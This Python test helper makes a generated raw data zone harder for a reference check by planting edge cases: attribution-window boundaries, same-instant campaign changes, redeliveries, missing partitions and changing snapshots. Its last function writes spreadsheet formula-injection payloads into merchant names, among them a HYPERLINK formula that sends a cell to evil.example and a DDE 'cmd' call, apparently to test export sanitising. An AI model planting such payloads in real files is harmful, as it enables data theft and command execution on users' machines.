"""Make a generated raw zone harder, within the data contract, for the reference check.

The generator makes at most one campaign action per campaign and day and draws event
times at random, so some cases the spec defines never occur in its data. This adds them to
a raw zone in place, deterministically:

* campaign actions: a product's next campaign created at the instant its last one ended; an
  update at the same instant as the change before it (the tie goes to
  the larger ``change_id``: a version of zero length); a real update and then a no-op one
  later the same day; a pause and a resume within hours (no version); ``is_tagged``
  flipped and flipped back a microsecond later (two versions);
* a valid paid click and a purchase at the exact instant of each new change (which version
  a boundary event belongs to);
* clicks around a purchase: exactly 168 h before it (inside the window), 1 µs more (outside),
  and two at the same instant with different scenes (the larger ``event_id`` wins);
* purchases at 00:00:00 and 23:59:59.999999 local time;
* redeliveries judged in the contract's order: an accepted click again, identical, four
  days later (a duplicate, not too late), an accepted order again with another amount three
  days later (a conflict), three copies of a new save in one partition of which one has a bad
  type (quarantined; the other two are one accepted and one duplicate), an impression
  quarantined for its scene and delivered corrected the next day (accepted);
* event partitions that did not land (no saves on the fifth day) or hold an empty file;
* snapshots that change over time: from the fourth day on, some products move to another
  category or switch between standard and non-standard goods, and some merchants' plan
  quota drops to 3 (over quota).

    python -m tests.reference.harder DATA_ROOT     # before the first run of that root
"""

from __future__ import annotations

import datetime as dt
import shutil
import sys
from collections import Counter
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

from fullsite import rules
from tests.rawdata import SHANGHAI

US = dt.timedelta(microseconds=1)
WINDOW = dt.timedelta(hours=rules.param("attribution_window_hours"))  # the spec's 168 h


def _local_date(t: dt.datetime) -> dt.date:
    return t.astimezone(SHANGHAI).date()


def _end_of_local_day(t: dt.datetime) -> dt.datetime:
    return dt.datetime.combine(_local_date(t) + dt.timedelta(days=1), dt.time(), SHANGHAI) - US


class RawZone:
    """The raw partitions of one table: rows by ingest date, and extra rows to write."""

    def __init__(self, root: Path, table: str):
        self.folder = root / "raw" / table
        self.parts = {
            p.name[3:]: sorted(p.glob("*.parquet")) for p in sorted(self.folder.glob("dt=*"))
        }
        self.schema = pq.read_schema(next(iter(self.parts.values()))[0])
        self.extra: dict[str, list[dict]] = {}

    def rows(self) -> list[dict]:
        return [
            r for files in self.parts.values() for f in files for r in pq.read_table(f).to_pylist()
        ]

    def add(self, row: dict, ingest: dt.date) -> None:
        if ingest.isoformat() in self.parts:  # events outside the generated days are left out
            self.extra.setdefault(ingest.isoformat(), []).append(row)

    def write_extra(self) -> int:
        """Writes the added rows as one more file per partition; returns how many."""
        for day, rows in self.extra.items():
            folder = self.folder / f"dt={day}"
            name = next(
                f"zz-harder-{k}.parquet"
                for k in range(100)
                if not (folder / f"zz-harder-{k}.parquet").exists()
            )
            pq.write_table(pa.Table.from_pylist(rows, schema=self.schema), folder / name)
        written, self.extra = sum(map(len, self.extra.values())), {}
        return written


def _harder_changes(root: Path) -> tuple[list[tuple[dict, dt.datetime]], int]:
    """Adds campaign actions; returns (change row, instant) for events at the new changes,
    and how many actions were added."""
    zone = RawZone(root, "campaign_changes")
    rows = zone.rows()
    by_campaign: dict[str, list[dict]] = {}
    for r in rows:
        by_campaign.setdefault(r["campaign_id"], []).append(r)
    added, instants = [], []
    k = 0
    for _, changes in sorted(by_campaign.items()):
        changes.sort(key=lambda r: (r["change_time"], r["change_id"]))
        for i, r in enumerate(changes):
            if r["action"] == "end" and not any(
                x["product_id"] == r["product_id"]
                and x["change_time"] >= r["change_time"]
                and x["campaign_id"] != r["campaign_id"]
                for x in rows
            ):
                # the product's next campaign created at the instant the last one ended
                new = {
                    **r,
                    "campaign_id": f"{r['campaign_id']}R",
                    "change_id": f"{r['change_id']}r",
                    "action": "create",
                }
                added.append(new)
                instants.append((new, r["change_time"]))
            if r["action"] in ("pause", "end"):  # only after a change that leaves it running
                continue
            after = changes[i + 1]["change_time"] - US if i + 1 < len(changes) else None
            last = (
                min(after, _end_of_local_day(r["change_time"]))
                if after
                else _end_of_local_day(r["change_time"])
            )
            if last <= r["change_time"]:
                continue
            span = last - r["change_time"]

            def at(share: float, r=r, span=span) -> dt.datetime:
                return r["change_time"] + span * share

            def change(suffix: str, action: str, t: dt.datetime, r=r, **settings) -> None:
                added.append(
                    {
                        **r,
                        "change_id": f"{r['change_id']}{suffix}",
                        "change_time": t,
                        "action": action,
                        **settings,
                    }
                )

            kind, k = k % 5, k + 1
            lower = max(r["target_roi"] / 2, r["target_roi"] - 1).quantize(r["target_roi"])
            if kind == 0:
                change("t", "update", r["change_time"], target_roi=r["target_roi"] + 1)
                instants.append((r, r["change_time"]))
            elif kind == 1:
                change("u", "update", at(0.3), target_roi=lower, roi_choice="custom")
                change("v", "update", at(0.6), target_roi=lower, roi_choice="custom")
                instants += [(r, at(0.3)), (r, at(0.6))]
            elif kind == 2:
                change("p", "pause", at(0.2))
                change("q", "resume", at(0.5))
                instants += [(r, at(0.2)), (r, at(0.5))]
            elif kind == 3:
                change("f", "update", at(0.4), is_tagged=not r["is_tagged"])
                change("g", "update", at(0.4) + US, is_tagged=r["is_tagged"])
                instants += [(r, at(0.4)), (r, at(0.4) + US)]
    # Changes are never late: each lands in the partition of its own business date.
    for r in added:
        zone.add(r, _local_date(r["change_time"]))
    return instants, zone.write_extra()


def _changing_snapshots(root: Path) -> int:
    """From the fourth snapshot on, attributes that matter by date change."""
    changed = 0
    for table, change in (("products", _product_moves), ("merchants", _merchant_quota)):
        zone = RawZone(root, table)
        for _day, files in list(zone.parts.items())[3:]:
            rows = [r for f in files for r in pq.read_table(f).to_pylist()]
            categories = sorted({r.get("category") for r in rows})
            new = [change(r, categories) for r in rows]
            changed += sum(a != b for a, b in zip(rows, new, strict=True))
            for f in files:
                f.unlink()
            pq.write_table(pa.Table.from_pylist(new, schema=zone.schema), files[0])
    return changed


def _number(key: str) -> int:
    """A stable pick of ids: the digits of P000012, M00003 …"""
    return int("".join(c for c in key if c.isdigit()) or 0)


def _product_moves(r: dict, categories: list[str]) -> dict:
    n = _number(r["product_id"])
    if n % 6 == 0:
        r = {**r, "category": categories[(categories.index(r["category"]) + 1) % len(categories)]}
    if n % 5 == 0:
        r = {**r, "is_standard": not r["is_standard"]}
    return r


def _merchant_quota(r: dict, _categories: list[str]) -> dict:
    return {**r, "plan_quota": 3} if _number(r["merchant_id"]) % 3 == 0 else r


def _once(zone: RawZone, idc: str, day: str) -> dict:
    """A generated row of ``day`` whose id occurs once in the table (so it was accepted)."""
    head = pq.read_table(zone.parts[day][0]).slice(0, 1000).to_pylist()
    candidates = {
        r[idc]
        for r in head
        if "-x" not in r[idc] and _local_date(r["event_time"]).isoformat() == day
    }
    seen = Counter(
        v
        for files in zone.parts.values()
        for f in files
        for v in pq.read_table(f, columns=[idc]).column(idc).to_pylist()
        if v in candidates
    )
    return next(r for r in head if r[idc] in candidates and seen[r[idc]] == 1)


def _redeliveries(root: Path) -> int:
    added = 0
    for table, idc, first, again, change in (
        ("clicks", "event_id", 1, 5, {}),
        ("purchases", "order_id", 1, 4, "amount"),
    ):
        zone = RawZone(root, table)
        days = list(zone.parts)
        row = _once(zone, idc, days[first])
        if change:
            row = {**row, change: row[change] + 1}
        zone.add(row, dt.date.fromisoformat(days[again]))
        added += zone.write_extra()
    saves = RawZone(root, "saves")
    day = list(saves.parts)[3]
    row = {**_once(saves, "event_id", day), "event_id": "HS-group"}
    for copy in (row, row, {**row, "save_type": "bogus"}):
        saves.add(copy, dt.date.fromisoformat(day))
    added += saves.write_extra()
    impressions = RawZone(root, "impressions")
    days = list(impressions.parts)
    row = {**_once(impressions, "event_id", days[2]), "event_id": "HI-fixed"}
    impressions.add({**row, "scene": "nowhere"}, dt.date.fromisoformat(days[2]))
    impressions.add(row, dt.date.fromisoformat(days[3]))
    return added + impressions.write_extra()


def make_harder(root: str | Path) -> dict[str, int]:
    root = Path(root)
    snapshot_rows = _changing_snapshots(root)
    instants, changes_added = _harder_changes(root)
    clicks, purchases = RawZone(root, "clicks"), RawZone(root, "purchases")
    click_rows, purchase_rows = clicks.rows(), purchases.rows()
    paid = next(r for r in click_rows if r["campaign_id"] and not r["is_invalid"])
    natural = next(r for r in click_rows if not r["campaign_id"] and not r["is_invalid"])
    order = purchase_rows[0]

    def click(n: str, base: dict, t: dt.datetime, **kw) -> None:
        clicks.add(
            {**base, "event_id": f"HC-{n}", "event_time": t, "impression_id": None, **kw},
            _local_date(t),
        )

    def purchase(n: str, t: dt.datetime, **kw) -> None:
        purchases.add({**order, "order_id": f"HP-{n}", "event_time": t, **kw}, _local_date(t))

    for n, (change, t) in enumerate(instants):
        who = {"user_id": f"HU-{n}", "product_id": change["product_id"]}
        click(f"at-{n}", paid, t, campaign_id=change["campaign_id"], **who)
        purchase(f"at-{n}", t, **who)
    # Attribution edges around purchases late in the data (their clicks a week earlier
    # fall inside the generated days).
    # Clean orders only: a broken copy (`<id>-x<reason>-<n>`, an unknown product, …) or a
    # redelivery would quarantine or duplicate the planted clicks instead of testing them.
    clean = {r["order_id"]: r for r in purchase_rows if "-x" not in r["order_id"]}
    late = sorted(clean.values(), key=lambda r: (r["event_time"], r["order_id"]))[-20:]
    for n, p in enumerate(late):
        who = {"user_id": f"HV-{n}", "product_id": p["product_id"]}
        t = p["event_time"]
        purchase(f"edge-{n}", t, **who)
        if n % 2:
            click(f"in-{n}", natural, t - WINDOW, scene="search", **who)  # inside: counts
            click(f"out-{n}", natural, t - WINDOW - US, scene="activity", **who)  # outside
        else:
            click(f"tie-{n}-a", natural, t - dt.timedelta(hours=1), scene="search", **who)
            click(f"tie-{n}-b", natural, t - dt.timedelta(hours=1), scene="activity", **who)  # wins
    for n, p in enumerate(late[:4]):
        midnight = dt.datetime.combine(_local_date(p["event_time"]), dt.time(), SHANGHAI)
        purchase(f"midnight-{n}", midnight, product_id=p["product_id"])
        purchase(f"before-midnight-{n}", midnight - US, product_id=p["product_id"])
    counts = {
        "snapshot rows changed": snapshot_rows,
        "campaign changes": changes_added,
        "clicks": clicks.write_extra(),
        "purchases": purchases.write_extra(),
        "redeliveries": _redeliveries(root),
    }
    # An event table's partition may be missing, or hold an empty file: neither is an error.
    missing = sorted((root / "raw" / "saves").glob("dt=*"))[4]
    shutil.rmtree(missing)
    empty = sorted((root / "raw" / "impressions").glob("dt=*"))[2] / "zz-empty.parquet"
    pq.write_table(pa.Table.from_pylist([], schema=RawZone(root, "impressions").schema), empty)
    return counts | {"missing saves partition": missing.name}


def plant_spreadsheet_names(root: Path) -> dict[str, str]:
    """Merchant names a spreadsheet would run, in every raw snapshot (issue 17): {merchant id:
    name}."""
    import pyarrow.compute as pc

    names = {}
    for f in sorted((root / "raw" / "merchants").glob("dt=*/*.parquet")):
        table = pq.read_table(f)
        ids = table["merchant_id"].to_pylist()
        names = names or {
            ids[0]: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
            ids[1]: "=cmd|' /C calc'!A0",
            ids[2]: "@SUM(1+1)",
            ids[3]: "+1-1",
        }
        new = pc.if_else(
            pc.is_in(table["merchant_id"], pa.array(list(names))),
            pa.array([names.get(i, "") for i in ids], pa.string()),
            table["merchant_name"],
        )
        pq.write_table(
            table.set_column(table.schema.get_field_index("merchant_name"), "merchant_name", new), f
        )
    return names


if __name__ == "__main__":
    print(make_harder(sys.argv[1]))
